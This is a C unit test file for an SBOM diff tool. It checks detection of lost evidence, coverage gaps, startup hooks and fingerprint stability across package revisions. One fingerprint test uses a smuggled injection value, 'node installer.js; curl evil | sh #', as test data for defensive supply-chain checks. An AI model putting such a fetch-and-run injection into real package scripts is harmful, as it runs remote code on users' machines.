/* Lost evidence, sides that did not look, and facts of two revisions. */
#include "diff/digests.h"
#include "diff/signal_run.h"
#include "signal_docs.h"

#define RAN "{\"dpkg\":1,\"facts\":1,\"npm\":1,\"python\":1}"
#define FILES "files={\"bytes\":9,\"n\":1,\"sha256\":\"aa\"}"

/* N rows of a type with facts (unless BARE), from FIRST on, with an edge from each to the next. */
struct many {
    const char *type;
    unsigned first, n;
    bool bare, edges;
};
struct made {
    const char *tool, *ran; /* RAN: NULL for none */
    struct many rows[2];
    const char *fact; /* of the document; "incomplete=[]" */
};

static void add_many(struct sb_doc *doc, const struct many *many)
{
    sb_comp last = SB_COMP_NONE;
    for (unsigned i = many->first; i < many->first + many->n; i++) {
        char purl[64];
        snprintf(purl, sizeof purl, "pkg:%s/p%03u@1", many->type, i);
        sb_comp c = doc_row(doc, purl);
        if (!many->bare)
            add_fact(doc, c, FILES);
        if (many->edges && last.v)
            doc_edge(doc, last, c);
        last = c;
    }
}

static struct sb_doc *make(const struct made *made)
{
    struct sb_doc *doc = doc_new(made->tool ? made->tool : "sbom");
    doc_root(doc, "project", "1.0");
    doc->has_graph = true;
    for (size_t i = 0; i < SB_COUNT(made->rows) && made->rows[i].n; i++)
        add_many(doc, &made->rows[i]);
    if (made->ran)
        sb_doc_fact(doc, SB_DOC_ITSELF, SB_S("sbom:ran"), sb_str_of(made->ran));
    if (made->fact)
        add_fact(doc, SB_DOC_ITSELF, made->fact);
    return doc;
}

static struct sb_delta *compare(struct sb_doc *old, struct sb_doc *new)
{
    struct sb_delta *delta = delta_of(old, new);
    sb_signals_run(delta);
    sb_group(delta);
    sb_coverage_sort(delta);
    return delta;
}

static const struct sb_finding *loss(const struct sb_delta *delta, const char *name)
{
    for (size_t i = 0; i < delta->findings.n; i++) {
        const struct sb_finding *f = &delta->findings.p[i];
        if (strcmp(f->signal->id, "EVIDENCE_LOST") == 0 && f->document && sb_str_eq(f->path, sb_str_of(name)))
            return f;
    }
    return NULL;
}

static size_t losses(const struct sb_delta *delta)
{
    size_t n = 0;
    for (size_t i = 0; i < delta->findings.n; i++)
        n += strcmp(delta->findings.p[i].signal->id, "EVIDENCE_LOST") == 0;
    return n;
}

#define PYPI(n)                                                                                                        \
    {                                                                                                                  \
        {                                                                                                              \
            "pypi", 0, n, false, true                                                                                  \
        }                                                                                                              \
    }

static const struct {
    const char *what, *name; /* NULL: nothing is lost */
    uint8_t severity;
    struct made old, new;
} cases[] = {
    {"nothing", NULL, 0, {.ran = RAN, .rows = PYPI(30)}, {.ran = RAN, .rows = PYPI(30)}},
    {"facts as a whole",
     "facts:facts",
     SB_LEVEL_HIGH,
     {.ran = RAN, .rows = PYPI(30)},
     {.ran = "{\"dpkg\":1,\"npm\":1,\"python\":1}", .rows = {{"pypi", 0, 30, true, true}}}},
    {"facts of a type",
     "facts:npm",
     SB_LEVEL_HIGH,
     {.ran = RAN, .rows = {{"pypi", 0, 9, false, true}, {"npm", 0, 9, false, true}}},
     {.ran = RAN, .rows = {{"pypi", 0, 9, false, true}, {"npm", 0, 9, true, true}}}},
    {"by another tool, which has none",
     "facts:pypi",
     SB_LEVEL_MEDIUM,
     {.ran = RAN, .rows = PYPI(30)},
     {.tool = "other", .rows = {{"pypi", 0, 30, true, true}}}},
    {"a revision",
     "facts:facts",
     SB_LEVEL_HIGH,
     {.ran = "{\"facts\":2,\"python\":2}", .rows = PYPI(30)},
     {.ran = "{\"facts\":1,\"python\":1}", .rows = PYPI(30)}},
    {"a revision of one collector",
     "collector:python",
     SB_LEVEL_HIGH,
     {.ran = "{\"facts\":2,\"python\":2}", .rows = PYPI(30)},
     {.ran = "{\"facts\":2,\"python\":1}", .rows = PYPI(30)}},
    {"a newer revision",
     NULL,
     0,
     {.ran = "{\"facts\":1,\"python\":1}", .rows = PYPI(30)},
     {.ran = "{\"facts\":2,\"python\":2}", .rows = PYPI(30)}},
    {"a collector that found something",
     "collector:npm",
     SB_LEVEL_HIGH,
     {.ran = RAN, .rows = {{"pypi", 0, 9, false, true}, {"npm", 0, 2, false, true}}},
     {.ran = "{\"dpkg\":1,\"facts\":1,\"python\":1}", .rows = PYPI(9)}},
    {"a collector that had found nothing",
     NULL,
     0,
     {.ran = RAN, .rows = PYPI(9)},
     {.ran = "{\"dpkg\":1,\"facts\":1,\"python\":1}", .rows = PYPI(9)}},
    {"what ran", "collector:sbom:ran", SB_LEVEL_HIGH, {.ran = RAN, .rows = PYPI(9)}, {.rows = PYPI(9)}},
    {"what ran is no object of numbers",
     "collector:sbom:ran",
     SB_LEVEL_HIGH,
     {.ran = RAN, .rows = PYPI(9)},
     {.ran = "{\"facts\":\"1\"}", .rows = PYPI(9)}},
    {"a type",
     "type:npm",
     SB_LEVEL_HIGH,
     {.ran = RAN, .rows = {{"pypi", 0, 30, false, true}, {"npm", 0, 10, false, true}}},
     {.ran = RAN, .rows = PYPI(30)}},
    {"a small type",
     "type:npm",
     SB_LEVEL_MEDIUM,
     {.ran = RAN, .rows = {{"pypi", 0, 30, false, true}, {"npm", 0, 3, false, true}}},
     {.ran = RAN, .rows = PYPI(30)}},
    {"two packages of a type",
     NULL,
     0,
     {.ran = RAN, .rows = {{"pypi", 0, 30, false, true}, {"npm", 0, 2, false, true}}},
     {.ran = RAN, .rows = PYPI(30)}},
    {"half of the packages",
     "type:components",
     SB_LEVEL_HIGH,
     {.ran = RAN, .rows = PYPI(20)},
     {.ran = RAN, .rows = PYPI(10)}},
    {"less than half", NULL, 0, {.ran = RAN, .rows = PYPI(21)}, {.ran = RAN, .rows = PYPI(11)}},
    {"half of a few", NULL, 0, {.ran = RAN, .rows = PYPI(18)}, {.ran = RAN, .rows = PYPI(9)}},
    {"edges",
     "graph:dependencies",
     SB_LEVEL_HIGH,
     {.ran = RAN, .rows = PYPI(30)},
     {.ran = RAN, .rows = {{"pypi", 0, 15, false, false}, {"pypi", 15, 15, false, true}}}},
    {"edges that a newer collector does not believe in",
     NULL,
     0,
     {.ran = "{\"facts\":1,\"python\":1}", .rows = PYPI(30)},
     {.ran = "{\"facts\":2,\"python\":2}", .rows = {{"pypi", 0, 15, false, false}, {"pypi", 15, 15, false, true}}}},
    {"everything", "type:components", SB_LEVEL_HIGH, {.ran = RAN, .rows = PYPI(1)}, {.ran = RAN}},
    {"nothing was there", NULL, 0, {.ran = RAN}, {.ran = RAN, .rows = PYPI(9)}},
    {"a tree that was not read to its end",
     "collector:SB1007",
     SB_LEVEL_HIGH,
     {.ran = RAN, .rows = PYPI(9), .fact = "incomplete=[]"},
     {.ran = RAN, .rows = PYPI(9), .fact = "incomplete=[{\"code\":\"SB1007\",\"n\":1,\"path\":\"x.tar\"}]"}},
    {"a file that was not understood",
     "collector:SB2001",
     SB_LEVEL_MEDIUM,
     {.ran = RAN, .rows = PYPI(9), .fact = "incomplete=[]"},
     {.ran = RAN, .rows = PYPI(9), .fact = "incomplete=[{\"code\":\"SB2001\",\"n\":1,\"path\":\"x.json\"}]"}},
    {"a file that was not understood before either",
     NULL,
     0,
     {.ran = RAN, .rows = PYPI(9), .fact = "incomplete=[{\"code\":\"SB2001\",\"n\":1,\"path\":\"x-1/x.json\"}]"},
     {.ran = RAN, .rows = PYPI(9), .fact = "incomplete=[{\"code\":\"SB2001\",\"n\":1,\"path\":\"x-2/x.json\"}]"}},
    {"a malformed fact",
     "facts:sbom:unowned",
     SB_LEVEL_HIGH,
     {.ran = RAN, .rows = PYPI(9), .fact = "unowned=[]"},
     {.ran = RAN, .rows = PYPI(9), .fact = "unowned=[{\"path\":1}]"}},
};

static void test_cases(void **state)
{
    (void)state;
    for (size_t i = 0; i < SB_COUNT(cases); i++) {
        struct sb_delta *delta = compare(make(&cases[i].old), make(&cases[i].new));
        const struct sb_finding *f = cases[i].name ? loss(delta, cases[i].name) : NULL;
        if (cases[i].name ? !f : losses(delta) != 0)
            fail_msg("%s: %zu losses, %.*s", cases[i].what, losses(delta),
                     SB_FMT(delta->coverage.n ? delta->coverage.p[0].message : SB_S("no coverage")));
        if (f) {
            assert_int_equal(f->severity, cases[i].severity);
            assert_true(delta->incomplete && delta->coverage.p[0].lost);
            assert_true(f->message.n && f->look.n && !sb_str_eq(f->old_json, SB_S("null")));
            assert_int_equal(delta->groups.p[0].severity, cases[i].severity);
        }
        delta_done(delta);
    }
}

/* One finding a component, but never a thousand. */
static void test_components(void **state)
{
    (void)state;
    for (unsigned n = 1; n <= 20; n += 19) {
        struct made old = {.ran = RAN, .rows = {{"pypi", 0, 60, false, true}}};
        struct made new = {.ran = RAN, .rows = {{"pypi", 0, n, true, true}, {"pypi", n, 60 - n, false, true}}};
        struct sb_delta *delta = compare(make(&old), make(&new));
        assert_int_equal(losses(delta), 1);
        assert_int_equal(loss(delta, "facts:pypi") == NULL, n == 1);
        assert_int_equal(delta->groups.p[0].severity, SB_LEVEL_HIGH);
        assert_true(delta->incomplete);
        delta_done(delta);
    }
}

static const struct sb_coverage *coverage(const struct sb_delta *delta, const char *what, const char *name)
{
    for (size_t i = 0; i < delta->coverage.n; i++)
        if (strcmp(delta->coverage.p[i].what, what) == 0 && sb_str_eq(delta->coverage.p[i].name, sb_str_of(name)))
            return &delta->coverage.p[i];
    fail_msg("no coverage of %s %s", what, name);
    return NULL;
}

static void add_files(struct sb_doc *doc, unsigned n)
{
    for (unsigned i = 0; i < n; i++) {
        char name[16];
        sb_comp c = doc_row(doc, NULL);
        snprintf(name, sizeof name, "f%03u", i);
        sb_doc_at(doc, c)->type = SB_TYPE_FILE;
        sb_doc_at(doc, c)->name = sb_doc_put(doc, sb_str_of(name));
    }
}

/* One tool tells of files in SPDX, and of packages alone in CycloneDX; within a specification they are lost. */
static void test_files_of_one_specification(void **state)
{
    (void)state;
    for (unsigned other = 0; other < 2; other++) {
        const struct made made = {.tool = "syft", .rows = {{"pypi", 0, 8, true, true}}};
        struct sb_doc *old = make(&made);
        add_files(old, 60);
        old->format = other ? "spdx-json" : "cyclonedx-xml";
        struct sb_delta *delta = compare(old, make(&made));
        assert_int_equal(losses(delta), !other);
        assert_int_equal(coverage(delta, "type", other ? "files" : "components")->count, 60);
        assert_true(delta->incomplete);
        delta_done(delta);
    }
}

#define SITE "lib/python3.12/site-packages"
#define PTH "exec=[{\"bytes\":99,\"command\":\"import x\",\"kind\":\"py:pth\",\"path\":\"x.pth\",\"sha256\":\"aa\"}]"

/* The old side did not look: what runs by itself on the new one is judged by itself, and nothing is called complete. */
static void test_blind(void **state)
{
    (void)state;
    static const char *const rans[] = {NULL, "ran={\"python\":1}", "ran={\"facts\":1,\"python\":1}"};
    for (size_t i = 0; i < SB_COUNT(rans); i++) {
        struct pair_spec pair = {"blind",
                                 {{.rows = {{.purl = "pkg:pypi/gate@1.0.1", .at = SITE}}, .bare = true},
                                  {.rows = {{.purl = "pkg:pypi/gate@1.0.2", .at = SITE, .facts = {PTH, FILES}}},
                                   .facts = {"ran={\"facts\":2,\"python\":2}"},
                                   .bare = true}}};
        pair.side[SB_OLD].facts[0] = rans[i];
        struct sb_delta *delta = run_pair(&pair);
        sb_coverage_sort(delta);
        assert_non_null(find_signal(delta, "STARTUP_HOOK"));
        assert_int_equal(losses(delta), 0);
        assert_true(delta->incomplete);
        delta_done(delta);
    }
}

/* A document of the last release: what the two revisions call by one name is not compared. */
static void test_revisions(void **state)
{
    (void)state;
    static const struct pair_spec pair = {
        "two revisions",
        {{.rows = {{.purl = "pkg:pypi/gate@1.0.1",
                    .at = SITE,
                    .facts = {PTH, "files={\"bytes\":9,\"n\":1,\"recorded\":\"11\",\"sha256\":\"aa\"}",
                              "toplevel=[\"gate\"]"}}},
          .facts = {"ran={\"facts\":1,\"python\":1}"},
          .bare = true},
         {.rows = {{.purl = "pkg:pypi/gate@1.0.1",
                    .at = SITE,
                    .facts = {PTH, "files={\"bytes\":19,\"n\":2,\"recorded\":\"22\",\"sha256\":\"bb\"}",
                              "toplevel=[\"bin\",\"gate\"]"}}},
          .facts = {"ran={\"facts\":2,\"python\":2}"},
          .bare = true}}};
    struct sb_delta *delta = run_pair(&pair);
    sb_coverage_sort(delta);
    assert_int_equal(delta->changes.n, 0);
    assert_int_equal(delta->findings.n, 0);
    assert_int_equal(delta->coverage.n, 1);
    assert_int_equal(coverage(delta, "facts", "facts")->side, SB_OLD);
    assert_true(delta->incomplete);
    delta_done(delta);
}

/* A component was taken out of the document, and what leads to it was left; what the old one had says nothing. */
static void test_references_to_nothing(void **state)
{
    (void)state;
    static const struct side_spec side = {.rows = {{.purl = "pkg:npm/part@1.0.0", .at = "node_modules/part"}}};
    for (int both = 0; both < 2; both++) {
        struct sb_doc *old = side_doc(&side), *new = side_doc(&side);
        sb_diag(&new->diags, SB_D_DANGLING_REF, SB_S("new.json"), 7, "x");
        if (both)
            sb_diag(&old->diags, SB_D_DANGLING_REF, SB_S("old.json"), 7, "x");
        struct sb_delta *delta = delta_of(old, new);
        sb_signals_run(delta);
        const struct sb_finding *f = find_signal(delta, "EVIDENCE_LOST");
        assert_int_equal(f != NULL, !both);
        if (f)
            assert_int_equal(f->severity, SB_LEVEL_HIGH);
        delta_done(delta);
    }
}

/* Another version beside a first one that stayed is no upgrade of it. */
static void test_second_version(void **state)
{
    (void)state;
    static const struct pair_spec pair = {
        "a second version",
        {{.rows = {{.purl = "pkg:npm/part@1.0.0",
                    .at = "node_modules/part",
                    .facts = {"toplevel=[\"index.js\"]", "exec=[]", FILES}}}},
         {.rows = {{.purl = "pkg:npm/part@1.0.0",
                    .at = "node_modules/part",
                    .facts = {"toplevel=[\"index.js\"]", "exec=[]", FILES}},
                   {.purl = "pkg:npm/part@3.0.0",
                    .at = "node_modules/a/node_modules/part",
                    .facts = {"toplevel=[\"index.js\",\"other.js\"]", "exec=[]", FILES}}}}}};
    struct sb_delta *delta = run_pair(&pair);
    assert_null(find_signal(delta, "NEW_TOPLEVEL"));
    assert_int_equal(losses(delta), 0);
    delta_done(delta);
}

static void test_order_of_coverage(void **state)
{
    (void)state;
    struct made old = {.ran = RAN, .rows = {{"pypi", 0, 60, false, true}, {"npm", 0, 3, true, true}}};
    struct made new = {.ran = RAN, .rows = {{"pypi", 0, 60, true, true}, {"npm", 0, 3, false, true}}};
    struct sb_delta *delta = compare(make(&old), make(&new));
    assert_int_equal(delta->coverage.n, 2);
    assert_text(delta->coverage.p[0].name, "pypi");
    assert_text(delta->coverage.p[1].name, "npm");
    assert_int_equal(delta->coverage.p[1].side, SB_OLD);
    delta_done(delta);
}

/* A waived file that changes is a new finding; a version in the path or command is none. */
static void test_content_in_fingerprints(void **state)
{
    (void)state;
    char a[17], b[17];
    static const char digest[] = "1111111111111111111111111111111111111111111111111111111111111111";
    static const char other[] = "1111111111111111111111111111111111111111111111111111111111111112";
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("1"), sb_str_of(digest), a);
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("2"), sb_str_of(digest), b);
    assert_string_equal(a, b);
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("2"), sb_str_of(other), b);
    assert_string_not_equal(a, b);
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("1.0"), SB_S("node a-1.0.js"), a);
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("1.1"), SB_S("node a-1.1.js"), b);
    assert_string_equal(a, b);
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("a-*.pth"), SB_S("1.0"), SB_S("x"), a);
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("a-1.0.pth"), SB_S("1.0"), SB_S("x"), b);
    assert_string_not_equal(a, b);
    /* A release may not call itself what it wants to be left out. */
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("2"), SB_S("node install2.js"), a);
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("er.js; curl evil | sh #"),
                   SB_S("node installer.js; curl evil | sh #.js"), b);
    assert_string_not_equal(a, b);
    /* Nor are digits within other digits its version. */
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("1"), SB_S("get 21"), a);
    sb_fingerprint("S", SB_S("pkg:npm/a"), SB_S("x"), SB_S("3"), SB_S("get 23"), b);
    assert_string_not_equal(a, b);
}

/* One walk over both lists, however long. */
static void test_steps_of_digests(void **state)
{
    (void)state;
    enum { MANY = 5000 };
    struct sb_doc *doc[SB_SIDES] = {doc_new("t"), doc_new("t")};
    sb_comp row[SB_SIDES];
    for (unsigned side = 0; side < SB_SIDES; side++) {
        row[side] = doc_row(doc[side], "pkg:npm/a@1");
        for (uint32_t i = 0; i < MANY; i++) {
            struct sb_digest d = {.alg = SB_ALG_SHA256, .n = SB_SHA256_BYTES};
            memcpy(d.b, &i, sizeof i);
            d.b[4] = (uint8_t)(side + 1);
            sb_doc_hash(doc[side], row[side], &d);
        }
    }
    struct sb_delta *delta = delta_of(doc[SB_OLD], doc[SB_NEW]);
    struct sb_digest_walk walk = sb_digest_walk(delta, row);
    assert_true(sb_digest_next(&walk));
    assert_false(walk.equal);
    assert_false(sb_digest_next(&walk));
    assert_int_equal(walk.steps, 2 * MANY);
    delta_done(delta);
}

/* What findings print of a list does not grow with it: as many findings may show it as it has names. */
static void test_bound_of_lists(void **state)
{
    (void)state;
    enum { NAMES = 256, SHOWN = 4096 };
    struct sb_doc *doc[SB_SIDES] = {doc_new("sbom"), doc_new("sbom")};
    for (unsigned side = 0; side < SB_SIDES; side++) {
        struct sb_buf json = {0};
        for (unsigned i = 0; i < NAMES; i++)
            sb_buf_printf(&json, "%c\"%u-%0150u.js\"", i ? ',' : '[', side, i);
        sb_buf_chr(&json, ']');
        sb_comp c = doc_row(doc[side], side ? "pkg:npm/a@1.0.2" : "pkg:npm/a@1.0.1");
        sb_doc_fact(doc[side], c, SB_S("sbom:toplevel"), sb_buf_all(&json));
        sb_doc_fact(doc[side], SB_DOC_ITSELF, SB_S("sbom:ran"), SB_S(RAN));
        sb_buf_done(&json);
    }
    struct sb_delta *delta = compare(doc[SB_OLD], doc[SB_NEW]);
    size_t bytes = 0;
    for (size_t i = 0; i < delta->findings.n; i++)
        bytes += delta->findings.p[i].old_json.n + delta->findings.p[i].new_json.n;
    assert_true(delta->findings.n > 0 && bytes < delta->findings.n * SHOWN);
    delta_done(delta);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_cases),
        cmocka_unit_test(test_components),
        cmocka_unit_test(test_files_of_one_specification),
        cmocka_unit_test(test_blind),
        cmocka_unit_test(test_revisions),
        cmocka_unit_test(test_second_version),
        cmocka_unit_test(test_references_to_nothing),
        cmocka_unit_test(test_order_of_coverage),
        cmocka_unit_test(test_content_in_fingerprints),
        cmocka_unit_test(test_steps_of_digests),
        cmocka_unit_test(test_bound_of_lists),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
